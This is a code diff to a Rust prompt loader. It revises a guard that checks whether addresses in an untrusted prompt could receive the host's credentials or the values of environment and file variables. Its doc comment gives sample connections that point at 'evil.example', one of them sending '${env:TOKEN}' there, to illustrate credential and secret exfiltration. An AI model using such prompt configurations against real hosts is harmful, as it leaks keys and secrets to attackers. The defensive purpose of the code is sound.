@@ -1,15 +1,27 @@
-//! Decides whether an endpoint in a prompt may receive values of the host (Prompty §2.5.1).
+//! Decides whether an address in a prompt may receive values of the host (Prompty §2.5.1). The host
+//! is the program that loads the prompt.
 //!
-//! A prompt may come from a stranger. The host's values are the credentials that a client uses if
-//! the connection has none, and the values of `${env:…}` and `${file:…}`. If the prompt chose an
-//! address that could receive any of them, the host must trust the origin of that address.
+//! A prompt may come from a stranger, who may have chosen its addresses. The host must trust the
+//! origin of such an address if one of these could be sent to it:
 //!
-//! The model receives its own settings and the tools, except their connections. A tool receives its
-//! own content. Both receive all other parts of the prompt, such as the default of an input.
+//! - *Credentials*: the key that a client has, and uses if the connection has none. According to
+//!   the specification, a client sends it to the `endpoint` and the `tokenUrl` of the model's
+//!   connection. So only these addresses are checked for it ([`AddressUse::Credentials`]).
+//! - *Values* of `${env:…}` and `${file:…}` in the prompt. They may be sent to any address of the
+//!   model or tool that receives them, so all of its addresses are checked for them. A model
+//!   receives its own settings and the tools, except their connections. A tool receives its own
+//!   content. Both receive all other parts of the prompt, such as the default of an input.
+//!
+//! For example, this connection has no key, so the client would send its own to `evil.example`:
+//! `{kind: foundry, endpoint: 'https://evil.example'}`. This one has a key, but the variable would
+//! be sent there: `{kind: key, apiKey: a, endpoint: 'https://evil.example', id: '${env:TOKEN}'}`.
 
 use std::collections::HashSet;
 
-use super::address::{TrustedOrigins, has_no_host, has_scheme, is_key_of_host, may_name_host};
+use super::address::{
+    TrustedOrigins, has_scheme, is_numeric_ipv4, is_plain_word, key_names_address,
+    key_names_amount, may_be_address,
+};
 use super::options::LoadOptions;
 use crate::definition::node::{Mapping, Node, NodeKind, Origin};
 use prompty_core::diagnostic::{SourceSpan, SourceText};
@@ -18,13 +30,13 @@ use prompty_core::error::{Error, ErrorKind};
 /// The kinds of connections that send no credentials, or that the host configured itself.
 const HARMLESS_KINDS: [&str; 2] = ["anonymous", "reference"];
 
-/// The keys of a connection that are addresses according to the format.
+/// The keys of a connection that are addresses according to the specification.
 const ADDRESS_KEYS: [&str; 2] = ["endpoint", "tokenUrl"];
 
 /// The keys of a connection that are not addresses. Every other key may be one.
 const OTHER_CONNECTION_KEYS: [&str; 2] = ["kind", "name"];
 
-/// The other keys of a model and of a tool that are not addresses according to the format.
+/// The keys of a model and of a tool that are not addresses according to the specification.
 const MODEL_KEYS: [&str; 2] = ["id", "apiType"];
 const TOOL_KEYS: [&str; 8] = [
     "name",
@@ -112,11 +124,10 @@ impl HostValues {
         items(node).into_iter().for_each(|item| self.add(item));
     }
 
-    /// Whether any value comes from elsewhere than the file with the address. A file may choose
-    /// where its values are sent.
-    fn any_except(&self, address: &PromptAddress<'_>) -> bool {
-        let own = usize::from(address.file().is_some_and(|file| self.files.contains(&file)));
-        self.has_variables || self.files.len() > own
+    /// Whether an address must be trusted to receive these values. If the address is in a file, it
+    /// may receive the values of the same file without trust, but no others.
+    fn need_trust(&self, address: &PromptAddress<'_>) -> bool {
+        self.has_variables || self.files.iter().any(|file| Some(*file) != address.file())
     }
 }
 
@@ -126,14 +137,43 @@ struct PromptAddress<'n> {
     key: &'n str,
     origin: Origin,
     span: SourceSpan,
-    /// Whether a client sends its credentials there, according to the format.
-    is_endpoint: bool,
+    used_for: AddressUse,
+}
+
+/// What a client sends to an address.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum AddressUse {
+    /// Values of the prompt, and the client's credentials: an endpoint of the specification.
+    Credentials,
+    /// Only values of the prompt.
+    Values,
 }
 
 impl PromptAddress<'_> {
     /// The reference to the file that contains the address.
     fn file(&self) -> Option<SourceSpan> {
         (self.origin == Origin::File).then_some(self.span)
+    }
+}
+
+/// What is known about the keys that lead to a value. The items of a list have those of the list.
+#[derive(Clone, Copy)]
+struct KeyPath<'n> {
+    last: &'n str,
+    /// Whether any of the keys is one of addresses: both in `url: a` and in `proxy: {http: squid}`.
+    name_address: bool,
+    /// As in [`PromptAddress`].
+    used_for: AddressUse,
+}
+
+impl<'n> KeyPath<'n> {
+    fn new(key: &'n str) -> Self {
+        Self { last: key, name_address: key_names_address(key), used_for: AddressUse::Values }
+    }
+
+    /// The keys that lead to an entry of a map.
+    fn with_last(self, key: &'n str) -> Self {
+        Self { last: key, name_address: self.name_address || key_names_address(key), ..self }
     }
 }
 
@@ -151,9 +191,9 @@ impl<'n> PromptAddresses<'n> {
             match key {
                 "connection" => addresses.add_connection(value),
                 "specification" => addresses.add_specification(value),
-                "provider" | "options" => addresses.add_options(key, value),
+                "provider" | "options" => addresses.add_options(KeyPath::new(key), value),
                 _ if known.contains(&key) => {}
-                _ => addresses.add_entry(owner, key, value),
+                _ => addresses.add_entry(owner, KeyPath::new(key), value),
             }
         }
         addresses
@@ -161,79 +201,102 @@ impl<'n> PromptAddresses<'n> {
 
     fn add_connection(&mut self, connection: &'n Node) {
         for (key, value) in entries(connection) {
+            if OTHER_CONNECTION_KEYS.contains(&key) {
+                continue;
+            }
+            if !ADDRESS_KEYS.contains(&key) {
+                self.add_entry(connection, KeyPath::new(key), value);
+                continue;
+            }
+            let keys = KeyPath { used_for: AddressUse::Credentials, ..KeyPath::new(key) };
             match value.as_text() {
-                Some(text) if ADDRESS_KEYS.contains(&key) => {
-                    // By the format, a client sends no credentials to a single word. But some
-                    // clients accept `localhost`.
-                    let is_endpoint = !has_no_host(text) || may_name_host(text);
-                    self.add(key, text, value, is_endpoint, !text.trim().is_empty());
+                // A client cannot send its credentials to a plain word, except for `localhost`.
+                Some(text) if is_plain_word(text) && !may_be_address(text) => {
+                    self.add_nonblank(KeyPath::new(key), text, value);
                 }
-                _ if OTHER_CONNECTION_KEYS.contains(&key) => {}
-                _ => self.add_entry(connection, key, value),
+                Some(text) => self.add_nonblank(keys, text, value),
+                None => self.add_entry(connection, keys, value),
             }
         }
     }
 
     /// Adds the addresses in an entry of a map: its key if that is one, and those in its value.
-    fn add_entry(&mut self, map: &'n Node, key: &'n str, value: &'n Node) {
-        // A value may belong to the host although the author wrote its key.
+    fn add_entry(&mut self, map: &'n Node, keys: KeyPath<'n>, value: &'n Node) {
+        // A key comes from the file that its map comes from. Otherwise the author wrote it, even if
+        // its value comes from a variable.
         let origin = if map.origin == Origin::File { Origin::File } else { Origin::Written };
-        if may_name_host(key) {
+        if may_be_address(keys.last) {
             self.found.push(PromptAddress {
-                text: key,
-                key,
+                text: keys.last,
+                key: keys.last,
                 origin,
                 span: value.span,
-                is_endpoint: false,
+                used_for: keys.used_for,
             });
         }
-        self.add_all(key, value);
+        self.add_all(keys, value);
     }
 
-    /// Adds the strings in a value that are addresses. For the items of a list, `key` is still the
-    /// key of the list. For the entries of a map, it is their own.
-    fn add_all(&mut self, key: &'n str, node: &'n Node) {
-        if let Some(text) = node.as_text() {
-            let is_address = may_name_host(text) || is_key_of_host(key) && !text.trim().is_empty();
-            self.add(key, text, node, false, is_address);
-        }
+    /// Adds the strings and numbers in a value that are addresses.
+    fn add_all(&mut self, keys: KeyPath<'n>, node: &'n Node) {
         match &node.kind {
-            NodeKind::Map(_) => {
-                entries(node).for_each(|(key, value)| self.add_entry(node, key, value));
+            NodeKind::Map(_) => entries(node)
+                .for_each(|(key, value)| self.add_entry(node, keys.with_last(key), value)),
+            NodeKind::List(items) => items.iter().for_each(|item| self.add_all(keys, item)),
+            NodeKind::Text(text) => {
+                let is_amount = key_names_amount(keys.last) && is_numeric_ipv4(text);
+                if keys.name_address {
+                    self.add_nonblank(keys, text, node);
+                } else if may_be_address(text) && !is_amount {
+                    self.add(keys, text, node);
+                }
             }
-            NodeKind::List(items) => items.iter().for_each(|item| self.add_all(key, item)),
-            // An IPv4 address in the form of one number: 2130706433 is 127.0.0.1. Smaller numbers,
-            // which begin with 0, are probably amounts.
-            NodeKind::Integer(number) if (1 << 24..1 << 32).contains(number) => {
-                self.add(key, "a number", node, false, true);
-            }
-            _ => {}
+            _ => self.add_number(keys, node, !key_names_amount(keys.last)),
         }
     }
 
     /// Adds the addresses in settings. Most settings are numbers or strings such as `gpt-4.1`.
-    fn add_options(&mut self, key: &'n str, node: &'n Node) {
-        if let Some(text) = node.as_text() {
-            let is_address = has_scheme(text) || is_key_of_host(key) && !text.trim().is_empty();
-            self.add(key, text, node, false, is_address);
-        }
+    fn add_options(&mut self, keys: KeyPath<'n>, node: &'n Node) {
         match &node.kind {
             NodeKind::Map(_) => {
-                entries(node).for_each(|(key, value)| self.add_options(key, value));
+                entries(node).for_each(|(key, value)| self.add_options(keys.with_last(key), value));
             }
-            NodeKind::List(items) => items.iter().for_each(|item| self.add_options(key, item)),
-            _ => {}
+            NodeKind::List(items) => items.iter().for_each(|item| self.add_options(keys, item)),
+            NodeKind::Text(text) => {
+                if keys.name_address {
+                    self.add_nonblank(keys, text, node);
+                } else if has_scheme(text) {
+                    self.add(keys, text, node);
+                }
+            }
+            _ => self.add_number(keys, node, keys.name_address && !key_names_amount(keys.last)),
+        }
+    }
+
+    /// Adds a number if clients would read its digits as an IPv4 address.
+    fn add_number(&mut self, keys: KeyPath<'n>, node: &'n Node, may_be_address: bool) {
+        let digits = match node.kind {
+            NodeKind::Integer(number) => number.to_string(),
+            NodeKind::Float(number) => number.to_string(),
+            _ => return,
+        };
+        if may_be_address && (key_names_address(keys.last) || is_numeric_ipv4(&digits)) {
+            self.add(keys, "a number", node);
         }
     }
 
     /// Adds the location of an OpenAPI document, or the addresses in it.
     fn add_specification(&mut self, node: &'n Node) {
-        if let Some(text) = node.as_text() {
-            self.add("specification", text, node, false, has_scheme(text));
+        if let Some(text) = node.as_text().filter(|text| has_scheme(text)) {
+            self.add(KeyPath::new("specification"), text, node);
         }
         for (key, value) in entries(node) {
             match OPENAPI_ADDRESSES.contains(&key) {
-                true => self.add_all(key, value),
+                // The description of a server is not an address, so only the keys inside decide.
+                true => {
+                    let name_address = key != "servers";
+                    self.add_all(KeyPath { name_address, ..KeyPath::new(key) }, value);
+                }
                 false => self.add_specification_part(value),
             }
         }
@@ -250,23 +313,22 @@ impl<'n> PromptAddresses<'n> {
         }
     }
 
-    /// Adds a text if it is an address. `is_endpoint` is as in [`PromptAddress`].
-    fn add(
-        &mut self,
-        key: &'n str,
-        text: &'n str,
-        node: &Node,
-        is_endpoint: bool,
-        is_address: bool,
-    ) {
-        // The host itself chose an address that comes from its variable.
-        if is_address && node.origin != Origin::Environment {
+    /// Adds an address, unless it is blank.
+    fn add_nonblank(&mut self, keys: KeyPath<'n>, text: &'n str, node: &Node) {
+        if !text.trim().is_empty() {
+            self.add(keys, text, node);
+        }
+    }
+
+    /// Adds an address, unless the host itself chose it by a variable.
+    fn add(&mut self, keys: KeyPath<'n>, text: &'n str, node: &Node) {
+        if node.origin != Origin::Environment {
             self.found.push(PromptAddress {
                 text,
-                key,
+                key: keys.last,
                 origin: node.origin,
                 span: node.span,
-                is_endpoint,
+                used_for: keys.used_for,
             });
         }
     }
@@ -292,8 +354,8 @@ impl AddressGuard<'_> {
             if self.origins.contain(address.text) {
                 continue;
             }
-            let is_sent_values = received.iter().any(|values| values.any_except(address));
-            let is_sent_credentials = address.is_endpoint
+            let is_sent_values = received.iter().any(|values| values.need_trust(address));
+            let is_sent_credentials = address.used_for == AddressUse::Credentials
                 && connection.is_some_and(|connection| gets_host_credentials(connection, address));
             let (sent, help) = match (is_sent_credentials, is_sent_values) {
                 (true, _) => (
@@ -321,12 +383,20 @@ impl AddressGuard<'_> {
     }
 }
 
-/// Whether a client would use the host's credentials. It uses them unless the prompt contains a key
-/// and the kind of the connection uses that key.
+/// Whether a client would send the host's credentials to an address of a connection.
 fn gets_host_credentials(connection: &Node, address: &PromptAddress<'_>) -> bool {
     let kind = connection.get("kind").and_then(Node::as_text).unwrap_or_default();
-    let is_own = |key: &&Node| !key.origin.is_host() || address.file() == Some(key.span);
-    let own_key = connection.get("apiKey").filter(is_own);
-    let has_own_key = own_key.and_then(Node::as_text).is_some_and(|key| !key.trim().is_empty());
-    !(HARMLESS_KINDS.contains(&kind) || kind == "key" && has_own_key)
+    if HARMLESS_KINDS.contains(&kind) {
+        return false;
+    }
+    // A connection of another kind does not use the prompt's key.
+    if kind != "key" {
+        return true;
+    }
+    let Some(key) = connection.get("apiKey") else { return true };
+    // A key from a variable or a file belongs to the host, unless the address is in the same file.
+    if key.origin.is_host() && address.file() != Some(key.span) {
+        return true;
+    }
+    key.as_text().is_none_or(|key| key.trim().is_empty())
 }
